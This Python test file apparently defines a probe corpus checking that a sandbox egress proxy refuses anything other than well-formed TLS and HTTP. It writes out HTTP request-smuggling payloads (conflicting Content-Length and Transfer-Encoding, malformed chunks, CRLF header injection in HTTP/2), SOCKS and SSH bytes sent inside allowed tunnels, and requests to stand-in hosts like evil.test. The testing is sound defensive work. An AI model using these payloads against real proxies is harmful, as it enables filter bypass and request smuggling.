"""Protocols (attacks.md section 3): only TLS and well-formed HTTP, each request judged, nothing tunnelled raw."""

from __future__ import annotations

from typing import Any

from runtime.probe.corpus.build import (
    BY_HOST,
    BY_SNI,
    FIX_AGREE,
    FIX_HEAD,
    h2,
    refused,
    sent,
    steps,
    streams,
    tcp,
    tunnelled,
    udp,
)
from runtime.probe.corpus.case import Case, Unverified

_NOT_HTTP = refused("not_tls_or_http", silent=True)
_BAD = refused("bad_request")
_BODY = "POST /{m} HTTP/1.1\r\nHost: ok.test\r\n"
_SMUGGLED = "GET /{m}-smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n"
_IN_TUNNEL: list[list[Any]] = [["connect", "ok.test:443", "{auth}"]]
_IN_PASSED: list[list[Any]] = [["connect", "pass.test:443", "{auth}"]]
_IN_TLS: list[list[Any]] = [*_IN_TUNNEL, ["tls", {"sni": "ok.test"}]]


def _raw(id_: str, title: str, text: str) -> Case:
    return steps(
        id_,
        title,
        [*_IN_TUNNEL, ["send", text]],
        _NOT_HTTP,
        fix="proxy/layers/routes.py: only TLS and HTTP get a layer",
    )


def _framing(id_: str, title: str, fields: str, body: str = "") -> Case:
    """A head whose framing two parsers could read in two ways; refused, and no byte of it goes on."""
    return sent(id_, title, _BODY + fields + "\r\n" + body + _SMUGGLED, _BAD, to=BY_HOST, fix=FIX_HEAD)


_TUNNELS: tuple[Case, ...] = (
    tcp("P-01b", "TCP to a public address, port 22", "{ip}", 22, group="protocols"),
    udp("P-01c", "UDP to a public address, port 53", "{ip}", 53),
    udp("P-01d", "UDP to a public address, port 123", "{ip}", 123),
    udp("P-06a", "QUIC to a public address", "{ip}", 443),
    udp("P-06b", "QUIC to the proxy", "{proxy}", 443),
    udp("P-06c", "UDP to the host", "{gateway}", 443),
    sent("P-05a", "a SOCKS5 greeting", "\x05\x01\x00", _NOT_HTTP),
    sent("P-05b", "a SOCKS4 greeting", "\x04\x01\x01\xbb\xcb\x00\x71\x42\x00", _NOT_HTTP),
    _raw("P-08a", "SSH in an allowed tunnel", "SSH-2.0-x\r\n"),
    _raw("P-08b", "SMTP in an allowed tunnel", "EHLO {m}\r\n"),
    _raw("P-08c", "Redis in an allowed tunnel", "*1\r\n$4\r\nPING\r\n"),
    _raw("P-08d", "NUL bytes in an allowed tunnel", "\0" * 10),
    _raw("P-11b", "a TLS record that is no ClientHello", "\x16\x03\x01\x00\x05hello"),
    steps("P-08e", "SSH to a passed-through host", [*_IN_PASSED, ["send", "SSH-2.0-x\r\n"]], _NOT_HTTP),
    steps("P-11a", "bytes that are no HTTP inside TLS", [*_IN_TLS, ["send", "\0\1\2\3{m}"]], _NOT_HTTP),
    steps("P-12", "CONNECT inside an allowed tunnel",
          [*_IN_TLS, ["send", "CONNECT {m}.evil.test:443 HTTP/1.1\r\nHost: {m}.evil.test\r\n\r\n"]],
          refused("method", "host_mismatch", "bad_request")),
    sent("P-25a", "HTTP/2 without TLS", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", _NOT_HTTP),
    sent("P-28a", "a PROXY v1 preamble", "PROXY TCP4 {ip} {ip} 1 443\r\nGET http://ok.test/{m} HTTP/1.1\r\nHost: ok.test\r\n{AUTH}\r\n",
         refused("bad_request", "bad_host", "not_tls_or_http", silent=True)),
    sent("P-28b", "a PROXY v2 preamble", "\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c", refused("not_tls_or_http", "bad_request", silent=True)),
    sent("P-30a", "an ftp URL", "GET ftp://ok.test/{m} HTTP/1.1\r\nHost: ok.test\r\n{AUTH}\r\n", refused("bad_request", "port", "bad_host")),
    sent("P-30b", "a gopher URL", "GET gopher://ok.test/{m} HTTP/1.1\r\nHost: ok.test\r\n{AUTH}\r\n", refused("bad_request", "port", "bad_host")),
    sent("L-13", "mitmproxy's own pages", "GET http://mitm.it/ HTTP/1.1\r\nHost: mitm.it\r\n{AUTH}\r\n", refused("not_allowed_host")),
    sent("P-13b", "TLS to the port that speaks clear text", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", _NOT_HTTP, to=BY_HOST),
    sent("P-13c", "clear text to the port that speaks TLS", "GET /{m} HTTP/1.1\r\nHost: ok.test\r\n\r\n", _NOT_HTTP, to=BY_SNI),
)  # fmt: skip

_HEADS: tuple[Case, ...] = (
    sent("P-31a", "TRACE", "TRACE http://ok.test/{m} HTTP/1.1\r\nHost: ok.test\r\n{AUTH}\r\n", refused("method")),
    sent("P-31b", "a method of 8 kB", "A" * 8000 + " http://ok.test/{m} HTTP/1.1\r\nHost: ok.test\r\n{AUTH}\r\n",
         refused("not_tls_or_http", "bad_request", silent=True)),
    sent("P-19", "a folded header line", "GET /{m} HTTP/1.1\r\nX: a\r\n Host: evil.test\r\nHost: ok.test\r\n\r\n", _BAD, to=BY_HOST),
    sent("P-20a", "line feeds alone", "GET /{m} HTTP/1.1\nHost: ok.test\n\n", _BAD, to=BY_HOST),
    sent("P-20b", "a NUL in a header", "GET /{m} HTTP/1.1\r\nHost: ok.test\r\nX: a\0b\r\n\r\n", _BAD, to=BY_HOST),
    sent("P-20c", "a carriage return in a header", "GET /{m} HTTP/1.1\r\nHost: ok.test\r\nX: a\rb\r\n\r\n", _BAD, to=BY_HOST),
    sent("P-20d", "a header without a colon", "GET /{m} HTTP/1.1\r\nHost: ok.test\r\nnothing\r\n\r\n", _BAD, to=BY_HOST),
    sent("P-20e", "a space before a colon", "GET /{m} HTTP/1.1\r\nHost: ok.test\r\nX : a\r\n\r\n", _BAD, to=BY_HOST),
    sent("N-47b", "two spaces in the request line", "GET  /{m} HTTP/1.1\r\nHost: ok.test\r\n\r\n", _BAD, to=BY_HOST),
    sent("N-47c", "a tab in the request line", "GET\t/{m} HTTP/1.1\r\nHost: ok.test\r\n\r\n", refused("bad_request", "not_tls_or_http", silent=True), to=BY_HOST),
    sent("N-47d", "HTTP/0.9", "GET /{m}\r\n\r\n", _BAD, to=BY_HOST),
    sent("N-47e", "HTTP/3.0 in a request line", "GET /{m} HTTP/3.0\r\nHost: ok.test\r\n\r\n", _BAD, to=BY_HOST),
    sent("P-32a", "a header of 1 MB", "GET /{m} HTTP/1.1\r\nHost: ok.test\r\nX: " + "a" * (1 << 20), refused("bad_request", silent=True), to=BY_HOST),
    sent("P-32b", "2000 headers", "GET /{m} HTTP/1.1\r\nHost: ok.test\r\n" + "X: a\r\n" * 2000 + "\r\n", _BAD, to=BY_HOST),
    sent("P-32c", "a URI of 60 kB", "GET /{m}" + "a" * 60000 + " HTTP/1.1\r\nHost: ok.test\r\n\r\n", _BAD, to=BY_HOST),
    sent("P-23", "Expect: 100-continue on a refused request",
         "POST http://{m}.evil.test/ HTTP/1.1\r\nHost: {m}.evil.test\r\nExpect: 100-continue\r\nContent-Length: 5\r\n{AUTH}\r\nhello",
         refused("not_allowed_host")),
)  # fmt: skip

_FRAMING: tuple[Case, ...] = (
    _framing("P-16a", "length and chunks", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
    _framing("P-16b", "an unknown transfer coding", "Transfer-Encoding: xchunked\r\n"),
    _framing("P-16c", "a vertical tab before chunked", "Transfer-Encoding: \x0bchunked\r\n", "0\r\n\r\n"),
    _framing("P-16d", "two transfer codings", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n"),
    _framing("P-16e", "chunked, then identity", "Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n"),
    _framing("P-17a", "a length with a sign", "Content-Length: +5\r\n", "hello"),
    _framing("P-17b", "two lengths in one header", "Content-Length: 5,5\r\n", "hello"),
    _framing("P-17c", "two lengths that differ", "Content-Length: 5\r\nContent-Length: 50\r\n", "hello"),
    _framing("P-17d", "a negative length", "Content-Length: -1\r\n"),
    _framing("P-17e", "a length in hexadecimal", "Content-Length: 0x5\r\n", "hello"),
    _framing("P-17f", "a length of 2^64", "Content-Length: 18446744073709551616\r\n"),
    sent("P-24", "chunks in HTTP/1.0", "POST /{m} HTTP/1.0\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED, _BAD, to=BY_HOST),
)  # fmt: skip


def _chunks(id_: str, title: str, body: str) -> Case:
    """A body whose chunks are malformed: the request may have begun, what hides in it is no request."""
    return sent(id_, title, _BODY + "Transfer-Encoding: chunked\r\n\r\n" + body, refused("bad_request", silent=True, upstream=1),
                to=BY_HOST, fix=FIX_HEAD)  # fmt: skip


_CHUNKS: tuple[Case, ...] = (
    _chunks("P-18a", "a chunk size in hexadecimal notation", "0x5\r\nhello\r\n0\r\n\r\n" + _SMUGGLED),
    _chunks("P-18b", "a negative chunk size", "-1\r\nhello\r\n0\r\n\r\n" + _SMUGGLED),
    _chunks("P-18c", "a chunk size of 17 digits", "00000000000000005\r\nhello\r\n0\r\n\r\n" + _SMUGGLED),
    _chunks("P-18d", "a chunk that ends in a line feed", "5\nhello\n0\n\n" + _SMUGGLED),
    _chunks("P-18e", "a chunk longer than its size", "3\r\nhello\r\n0\r\n\r\n" + _SMUGGLED),
)

_HTTP2: tuple[Case, ...] = (
    streams("N-35a", "an unlisted :authority", [h2("/{m}", authority="{m}.evil.test")], refused("host_mismatch")),
    streams("N-35b", "a Host that is not the :authority", [h2("/{m}", ["host", "evil.test"])], refused("bad_request", silent=True)),
    streams("N-36", "a second stream to another host", [h2("/echo/{m}"), h2("/{m}", authority="{m}.evil.test")],
            refused("host_mismatch", upstream=1)),
    streams("N-35c", "the scheme http in TLS", [[[":method", "GET"], [":scheme", "http"], [":authority", "ok.test"], [":path", "/{m}"]]],
            refused("bad_request", silent=True)),
    streams("N-37", "a WebSocket tunnel to another host",
            [[[":method", "CONNECT"], [":protocol", "websocket"], [":scheme", "https"], [":authority", "{m}.evil.test"], [":path", "/"]]],
            refused("host_mismatch", "bad_request", "method", silent=True)),
    streams("P-21a", "a line break in a header value", [h2("/{m}", ["x", "a\r\nhost: evil.test"])], refused("bad_request", silent=True)),
    streams("P-21b", "a line break in a path", [h2("/{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n")], refused("bad_request", silent=True)),
    streams("P-21c", "transfer-encoding in HTTP/2", [h2("/{m}", ["transfer-encoding", "chunked"])], refused("bad_request", silent=True)),
    streams("P-21d", "a fragment in HTTP/2", [h2("/echo/{m}?a=b#/../admin")], refused("bad_request", silent=True)),
    streams("P-21e", "an absolute URL in HTTP/2", [h2("https://{m}.evil.test/")], refused("bad_request", silent=True)),
)  # fmt: skip

_UPSTREAM: tuple[Case, ...] = (
    tunnelled("P-14a", "an upstream with an expired certificate", "GET /{m} HTTP/1.1\r\nHost: expired.wild.test\r\n\r\n",
              Unverified(), host="expired.wild.test", sni="expired.wild.test", group="protocols", fix="proxy/master.py: ssl_insecure"),
    tunnelled("P-14b", "an upstream with another's certificate", "GET /{m} HTTP/1.1\r\nHost: wrong-name.wild.test\r\n\r\n",
              Unverified(), host="wrong-name.wild.test", sni="wrong-name.wild.test", group="protocols", fix="proxy/master.py: ssl_insecure"),
    tunnelled("P-14c", "an upstream with a certificate of its own", "GET /{m} HTTP/1.1\r\nHost: self-signed.wild.test\r\n\r\n",
              Unverified(), host="self-signed.wild.test", sni="self-signed.wild.test", group="protocols", fix="proxy/master.py: ssl_insecure"),
)  # fmt: skip

_PIPELINES: tuple[Case, ...] = (
    sent("P-22a", "a refused request behind an allowed one, in one segment",
         "GET http://ok.test/echo/{m} HTTP/1.1\r\nHost: ok.test\r\n{AUTH}\r\nGET http://{m}.evil.test/ HTTP/1.1\r\nHost: {m}.evil.test\r\n{AUTH}\r\n",
         refused("not_allowed_host", upstream=1), responses=2),
    sent("P-22b", "a request hidden in the body of a refused one",
         "POST http://{m}.evil.test/ HTTP/1.1\r\nHost: {m}.evil.test\r\nContent-Length: 60\r\n{AUTH}\r\nGET http://ok.test/{m} HTTP/1.1\r\nHost: ok.test\r\n\r\n",
         refused("not_allowed_host"), responses=2, wait_s=2),
    tunnelled("N-49", "a WebSocket to an unlisted host", "GET /ws HTTP/1.1\r\nHost: {m}.evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
              "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", refused("host_mismatch"), group="protocols", fix=FIX_AGREE),
)  # fmt: skip

CASES: tuple[Case, ...] = (*_TUNNELS, *_HEADS, *_FRAMING, *_CHUNKS, *_HTTP2, *_UPSTREAM, *_PIPELINES)
